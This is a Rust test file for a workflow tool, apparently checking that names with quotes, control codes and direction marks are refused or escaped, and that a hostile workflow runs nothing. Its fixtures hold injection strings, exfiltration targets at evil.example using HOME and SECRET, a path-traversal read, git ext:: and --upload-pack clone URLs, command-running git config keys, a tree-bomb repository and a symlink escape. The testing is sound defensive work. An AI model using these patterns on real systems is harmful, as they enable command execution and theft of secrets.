//! Names with quotes, line ends, escape codes, direction marks and NUL are refused at their place, or go
//! through every verb, escaped and quoted. And a stranger's workflow that tries everything at once: looking
//! at it does nothing, and a run names each. `trust` has the details.

use std::fs;
use std::process::{Command, Stdio};
use std::time::Instant;

use serde_json::{Map, Value, json};

use crate::bombs::measured;
use crate::harness::{Outcome, Project, Running, files_below, hides, patience};
use crate::mine_damage::{commit, entry, object};
use crate::paper::records;
use crate::repository::{Repository, at, day};

#[rustfmt::skip]
const NAMES: [&str; 16] = [
    "a \"b\" 'c' `d`", "two  words", " ", "line\nbreak", "re\rturn", "tab\tbed",
    "esc\u{1b}[31m\u{1b}]0;t\u{7}", "c1\u{9b}2J", "rtl\u{202e}x\u{2066}y", "nul\0x",
    "<b>&amp;</b>", "a[b=c].d", "${x}", "|;{}#", "%s\\N\\", "--help",
];

pub fn is_unseen(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[track_caller]
pub fn harmless(what: &str, outcome: &Outcome) {
    for (stream, text) in [("stdout", &outcome.stdout), ("stderr", &outcome.stderr)] {
        let line = text.lines().find(|line| line.contains(is_unseen));
        assert!(line.is_none() && !text.contains(is_unseen), "{what}: {stream}: {line:?}");
    }
    assert!(!outcome.stderr.contains("panicked"), "{what}: {outcome}");
}

pub fn quoted(text: &str) -> String {
    let text = Value::from(text).to_string();
    let letters = |c: char| match is_unseen(c) {
        true => format!("\\u{:04x}", u32::from(c)),
        false => c.to_string(),
    };
    text.chars().map(letters).collect()
}

/// A workflow with `NAME` instead of a name, and the line of it. `STEP` is the step `a`.
const PLACES: [(&str, &str, u64); 8] = [
    ("step", "steps:\n  NAME: { op: methods, WITH }\n", 3),
    ("param", "params:\n  NAME: { type: int, default: 1 }\nsteps:\n  STEP\n", 3),
    ("output", "steps:\n  STEP\noutputs:\n  NAME: { from: a, path: a.csv }\n", 5),
    ("matrix key", "steps:\n  a:\n    op: methods\n    matrix: { NAME: [1] }\n    WITH\n", 5),
    (
        "input port",
        "steps:\n  STEP\n  b:\n    op: sql\n    from: { NAME: a }\n    with: { query: SELECT 1 AS x }\n",
        6,
    ),
    ("reference", "steps:\n  STEP\n  b: { op: sample, from: NAME, with: { n: 1, seed: 1 } }\n", 4),
    ("operator", "steps:\n  a:\n    op: NAME\n", 4),
    ("argument", "steps:\n  a: { op: methods, with: { corpus: python-stdlib, NAME: 1 } }\n", 3),
];

#[test]
fn names_in_a_workflow_are_refused_at_their_place() {
    for (place, workflow, line) in PLACES {
        let workflow = workflow.replace("STEP", "a: { op: methods, WITH }");
        let workflow = workflow.replace("WITH", "with: { corpus: python-stdlib }");
        for name in NAMES {
            let what = format!("{place} {name:?}");
            let workflow = workflow.replace("NAME", &quoted(name));
            let project = Project::new(&format!("galeras: 1\n{workflow}"));
            let outcome = project.run(&["check", "w.yaml", "--format", "json"]).exits(2);
            harmless(&what, &outcome);
            let found = outcome.events("diagnostic");
            assert!(!found.is_empty(), "{what}: {outcome}");
            assert!(found.iter().all(|d| d["line"] == line), "{what}: {outcome}");
            let shown = project.run(&["run", "w.yaml"]).exits(2);
            harmless(&what, &shown);
            assert!(shown.stderr.contains(&format!("w.yaml:{line}:")), "{what}: {shown}");
            assert!(project.stored_nothing(), "{what}");
        }
    }
}

/// Columns, cells and values of every name, and the workflow that goes through them.
fn project() -> Project {
    let cells = NAMES.map(quoted).join(", ");
    let project = Project::new(&format!(
        "galeras: 1
name: {}
description: {}
steps:
  data: {{ op: read, with: {{ path: data.jsonl, key: [id] }} }}
  cells: {{ op: sql, matrix: {{ m: [{cells}] }}, from: data, with: {{ query: SELECT * FROM input }} }}
  all: {{ op: sql, from: 'cells[*]', with: {{ query: \"SELECT * FROM input WHERE n > 0\", key: [id, m] }} }}
  valid: {{ op: validate, from: data, with: {{ rules: [{{ name: big, check: n > 1 }}] }} }}
outputs:
  csv: {{ from: all, path: out/all.csv }}
  jsonl: {{ from: valid, path: out/valid.jsonl }}
  parquet: {{ from: all, path: out/all.parquet }}
",
        quoted(NAMES[0]),
        quoted(NAMES[8])
    ));
    let row = |(n, id): (usize, &&str)| {
        let mut row = Map::new();
        row.insert("id".into(), (*id).into());
        row.insert("n".into(), n.into());
        for name in NAMES {
            row.insert(format!("c {name}"), format!("v {name}").into());
        }
        Value::Object(row).to_string()
    };
    let rows: Vec<String> = NAMES.iter().enumerate().map(row).collect();
    project.write("data.jsonl", rows.join("\n") + "\n");
    project
}

#[test]
fn columns_cells_and_values_go_through_every_verb_and_what_programs_read_is_well_formed() {
    let project = project();
    let say = |args: &[&str]| {
        let outcome = project.run(args);
        harmless(&args.join(" "), &outcome);
        outcome.exits(0)
    };
    for round in 0..2 {
        say(&["check", "w.yaml"]);
        say(&["plan", "w.yaml"]);
        say(&["plan", "w.yaml", "--format", "json"]).json_lines();
        let run = say(&["run", "w.yaml", "--format", "json"]);
        let steps = run.finished()["steps"].as_array().unwrap().clone();
        for name in NAMES {
            let cell = format!("cells[m={name}]");
            assert!(steps.iter().any(|s| s["step"] == cell), "round {round}: {cell:?}");
        }
        say(&["run", "w.yaml"]);
    }
    // NUL cannot be an argument of a program.
    for name in NAMES.iter().filter(|name| !name.contains('\0')) {
        let cell = format!("cells[m={name}]");
        say(&["explain", "w.yaml", &cell]);
        say(&["explain", "w.yaml", &cell, "--format", "json"]).json_lines();
        say(&["show", "w.yaml", &cell]);
        let column = format!("c {name}");
        // Data for programs goes into a pipe as it is.
        let shown = ["show", "w.yaml", "data", "--columns", &column, "--format", "json"];
        assert_eq!(project.run(&shown).exits(0).json_lines().len(), NAMES.len());
        let query = format!("SELECT \"{}\" AS x FROM data", column.replace('"', "\"\""));
        say(&["sql", "w.yaml", &query]);
        say(&["trace", "w.yaml", name]);
        say(&["trace", "w.yaml", name, "--format", "json"]);
    }
    say(&["show", "w.yaml", "valid.rejects"]);
    say(&["cache", "ls"]);
    say(&["cache", "verify"]);
    say(&["lock", "w.yaml"]);
    let graph = |format| {
        let outcome = project.run(&["graph", "w.yaml", "--format", format]).exits(0);
        harmless(format, &outcome);
        outcome.stdout
    };
    for line in graph("dot").lines() {
        assert!(dot_is_sound(line), "{line}");
    }
    for line in graph("mermaid").lines().skip(3) {
        assert!(line.matches('"').count() % 2 == 0, "{line}");
    }
    roxmltree::Document::parse(&graph("svg")).unwrap();
    let csv = project.read("out/all.csv");
    let records = records(&csv);
    let width = records[0].len();
    assert!(records.iter().all(|record| record.len() == width), "{width} columns");
    for name in NAMES {
        assert!(records[0].contains(&format!("c {name}")), "{name:?} in {:?}", records[0]);
    }
    let rows: Vec<Value> =
        project.read("out/valid.jsonl").lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    for name in NAMES {
        assert_eq!(rows[0][format!("c {name}")], json!(format!("v {name}")));
    }
}

/// True if every string of a line of DOT ends on it.
fn dot_is_sound(line: &str) -> bool {
    let (mut open, mut chars) = (false, line.chars());
    while let Some(c) = chars.next() {
        match c {
            '\\' if open => drop(chars.next()),
            '"' => open = !open,
            _ => {}
        }
    }
    !open
}

#[test]
fn outputs_go_where_their_path_says_or_are_refused() {
    for name in NAMES {
        let path = format!("out/{name}.csv");
        let project = Project::new(&format!(
            "galeras: 1\nsteps:\n  a: {{ op: methods, with: {{ corpus: python-stdlib, include: ['this.py', 'token.py'] }} }}\noutputs:\n  o: {{ from: a, path: {} }}\n",
            quoted(&path)
        ));
        let outcome = project.run(&["run", "w.yaml"]);
        harmless(&path, &outcome);
        // A name of nothing but a suffix is none.
        let refused = name.contains(char::is_control) || name.ends_with('\\');
        if refused {
            let outcome = outcome.exits(2);
            assert!(outcome.stderr.contains("w.yaml:5:"), "{name:?}: {outcome}");
        } else {
            outcome.exits(0);
            assert!(project.path(&path).is_file(), "{name:?}");
        }
        // Nothing was written next to it.
        let files = fs::read_dir(project.path("out")).map_or(0, Iterator::count);
        assert_eq!(files, usize::from(!refused), "{name:?}");
    }
}

#[test]
fn repositories_are_mined_or_refused_at_their_place() {
    for name in NAMES.iter().filter(|name| !name.contains('\0')) {
        let project = Project::steps(&format!(
            "  repos: {{ op: query, with: {{ repos: [{}] }} }}
  mined: {{ op: mine, from: repos, with: {{ since: 2020-01-01, until: 2030-01-01 }} }}
",
            quoted(&format!("./{name}"))
        ));
        let repository = Repository::with_work_tree(project.path(name));
        repository.commit(at(day(1)).write("a.py", "def f():\n    return 1\n"));
        let outcome = project.run(&["run", "w.yaml"]);
        harmless(name, &outcome);
        match outcome.code {
            Some(0) => {
                let rows = project.rows("mined");
                assert_eq!(rows.len(), 1, "{name:?}: {rows:?}");
                let id = rows[0]["id"].as_str().unwrap().to_owned();
                for verb in [
                    &["show", "w.yaml", "mined"][..],
                    &["plan", "w.yaml"],
                    &["trace", "w.yaml", &id],
                    &["lock", "w.yaml"],
                ] {
                    harmless(name, &project.run(verb).exits(0));
                }
            }
            _ => assert!(outcome.exits(2).stderr.contains("w.yaml:3:"), "{name:?}"),
        }
    }
}

#[test]
fn names_on_the_command_line_are_refused() {
    let project = project();
    project.run(&["run", "w.yaml"]).exits(0);
    for name in NAMES.iter().filter(|name| !name.contains('\0')) {
        for args in [
            vec!["run", "w.yaml", "--select", name],
            vec!["run", "w.yaml", "--set", name],
            vec!["show", "w.yaml", name],
            vec!["explain", "w.yaml", name],
            vec!["ops", name],
        ] {
            let outcome = project.run(&args);
            harmless(&format!("{args:?}"), &outcome);
            let help = *name == "--help" && outcome.code == Some(0);
            assert!(help || outcome.code == Some(2), "{args:?}: {outcome}");
        }
        let setting = format!("{name}=1");
        let outcome = project.run(&["plan", "w.yaml", "--set", &setting]);
        harmless(&setting, &outcome);
        assert!(outcome.code == Some(2), "{setting:?}: {outcome}");
    }
}

const WORKFLOW: &str = "galeras: 1
name: \"kind\\e[2J\\e]0;owned\\a\\u202e\"
description: \"<script>alert(1)</script> [a](javascript:alert(1)) ![i](http://evil.example/i)\"
remote: { url: 'http://evil.example:8080/store' }
params:
  words: { type: string, default: '$(touch hit)`touch hit`; touch hit' }
steps:
  hit: { op: exec, with: { command: \"touch hit #\\e[31m\", output: { id: utf8! } } }
  said: { op: exec, with: { command: 'echo ${{ params.words }}', output: { id: utf8! } } }
  stolen: { op: read, with: { path: ../outside.csv } }
  prompts: { op: prompt, from: stolen, with: { treatments: { all: '{{ id }}' } } }
  sent:
    op: generate
    from: prompts
    with: { model: m, base_url: 'http://evil.example/v1', api_key_env: HOME, tries: 1 }
  asked:
    op: query
    with: { github: x, limit: 3, token_env: SECRET, base_url: 'https://evil.example/api' }
  repos: { op: read, with: { path: repos.csv, key: [repo] } }
  mined: { op: mine, from: repos, with: { since: 2000-01-01, until: 2030-01-01 } }
outputs:
  left: { from: stolen, path: out/left.csv }
";

/// Each line would run a program, if anybody asked git.
const REPOSITORIES: &str = "repo,clone_url,head_sha
r,./bomb,
x,ext::sh -c touch% hit,
o,--upload-pack=touch hit,
";

const CONFIGURATION: &str = "[core]
\tfsmonitor = touch ../hit
\tsshCommand = touch ../hit
\thooksPath = hooks
[credential]
\thelper = \"!touch ../hit\"
";

const LOOKS: [&[&str]; 7] = [
    &["check", "w.yaml"],
    &["plan", "w.yaml"],
    &["graph", "w.yaml"],
    &["graph", "w.yaml", "--format", "svg"],
    &["explain", "w.yaml", "hit"],
    &["explain", "w.yaml", "mined"],
    &["report", "w.yaml", "--overwrite"],
];

fn hostile() -> Project {
    let project = Project::new(WORKFLOW).with("../outside.csv", "id\nsecret\n");
    project.write("repos.csv", REPOSITORIES);
    let bomb = Repository::bare(project.path("bomb"));
    let mut id = object(&bomb, "blob", b"def f():\n    return 1\n");
    for level in 0..10 {
        let (mode, name) = if level == 0 { ("100644", "m.py") } else { ("40000", "d") };
        let entries: Vec<u8> =
            (0..10).flat_map(|at| entry(mode, &format!("{name}{at}"), &id)).collect();
        id = object(&bomb, "tree", &entries);
    }
    commit(&bomb, &id, None);
    let configuration = bomb.git_dir().join("config");
    let before = fs::read_to_string(&configuration).unwrap();
    fs::write(configuration, before + CONFIGURATION).unwrap();
    fs::create_dir(project.path("../elsewhere")).unwrap();
    std::os::unix::fs::symlink(project.path("../elsewhere"), project.path("out")).unwrap();
    project
}

#[track_caller]
fn untouched(project: &Project) {
    for place in ["hit", "bomb/hit", "../hit"] {
        assert!(!project.path(place).exists(), "{place}");
    }
    assert!(files_below(&project.path("../elsewhere")).is_empty());
}

/// The program under `strace`: what it said, and its system calls for programs and networks.
fn traced(project: &Project, args: &[&str]) -> (Outcome, String) {
    let program = project.command_as_typed(args);
    let mut strace = Command::new("strace");
    strace.args(["-f", "-qq", "-e", "trace=network,execve,execveat", "-o", "../trace"]);
    strace.arg(program.get_program()).args(program.get_args());
    strace.env_clear().current_dir(project.root()).stdin(Stdio::null());
    for (name, value) in program.get_envs() {
        strace.env(name, value.unwrap());
    }
    strace.env("SECRET", "a-secret-of-mine");
    let outcome = Running::start(strace).finish();
    (outcome, project.read("../trace"))
}

#[test]
fn looking_at_it_does_nothing_in_little_time_and_memory_and_a_run_names_each() {
    let project = hostile();
    let strace = Command::new("strace").args(["-o", "/dev/null", "true"]).output();
    let strace = strace.is_ok_and(|output| output.status.success());
    for args in LOOKS {
        let started = Instant::now();
        let (code, said, most) = measured(&project, args);
        assert_eq!(code, Some(0), "{args:?}: {said}");
        assert!(started.elapsed() < patience(2), "{args:?}: {:?}", started.elapsed());
        assert!(most < 500, "{args:?}: {most} MiB");
        assert!(!said.contains(['\x1b', '\x07', '\u{202e}']), "{args:?}: {said}");
        if strace {
            let (outcome, trace) = traced(&project, args);
            assert_eq!(outcome.code, Some(0), "{outcome}");
            assert_eq!(trace.matches("execve").count(), 1, "{args:?}\n{trace}");
            assert!(!trace.contains("AF_INET"), "{args:?}\n{trace}");
        }
        untouched(&project);
    }
    // The page that came of it shows nothing from elsewhere and runs nothing of it.
    let page = project.read("w.html");
    hides(&page, &["<script>alert", "=\"javascript:", "src=\"http", "a-secret-of-mine"]);
    let project = hostile();
    let (outcome, trace) = traced(&project, &["run", "w.yaml", "--format", "json"]);
    assert_eq!(outcome.code, Some(2), "{outcome}");
    assert!(!trace.contains("AF_INET"), "{trace}");
    assert!(project.stored_nothing());
    untouched(&project);
    let asked: Vec<String> =
        outcome.events("diagnostic").iter().map(|d| d["help"].to_string()).collect();
    for wanted in [
        "--allow exec\"",
        "outside.csv\"",
        "--allow env:HOME=http://evil.example\"",
        "--allow env:SECRET=evil.example\"",
        "--allow host:http://evil.example:8080\"",
        "elsewhere/left.csv\"",
    ] {
        assert!(asked.iter().any(|help| help.ends_with(wanted)), "{wanted} in {asked:?}");
    }
    assert_eq!(outcome.stdout.matches("runs a program").count(), 2, "{outcome}");
}
